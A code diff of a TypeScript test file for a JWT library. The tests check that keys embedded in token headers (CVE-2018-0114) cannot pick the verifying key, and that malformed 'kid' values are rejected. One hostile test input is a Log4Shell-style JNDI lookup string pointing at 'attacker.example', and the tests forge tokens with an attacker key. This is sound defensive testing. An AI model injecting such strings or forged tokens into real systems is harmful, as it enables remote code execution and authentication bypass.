@@ -1,6 +1,6 @@
 /** K8, K9: what a JWK says of itself binds, and nothing in a header chooses a key. */
 
-import type { JsonWebKey, KeyObject } from 'node:crypto';
+import { type JsonWebKey, type KeyObject, sign as signBytes } from 'node:crypto';
 import { describe, expect, test, vi } from 'vitest';
 import {
   createSigner,
@@ -129,7 +129,6 @@ describe('a header that brings its own key does not choose it (CVE-2018-0114)', 
 
   for (const [name, members] of Object.entries(extras)) {
     test(name, async () => {
-      const { sign: signBytes } = await import('node:crypto');
       const fetched = vi.spyOn(globalThis, 'fetch');
       const input = `${segment({ alg: 'EdDSA', ...members })}.${segment(claims)}`;
       const token = `${input}.${signBytes(null, Buffer.from(input), forger.privateKey).toString('base64url')}`;
@@ -236,7 +235,7 @@ describe('kid reaches a resolver only as a short printable string', () => {
     '🔑',
     '%00',
     '\\',
-    '${jndi:ldap://attacker.example}',
+    '$\u007Bjndi:ldap://attacker.example}',
     'k'.repeat(256),
     '',
   ];
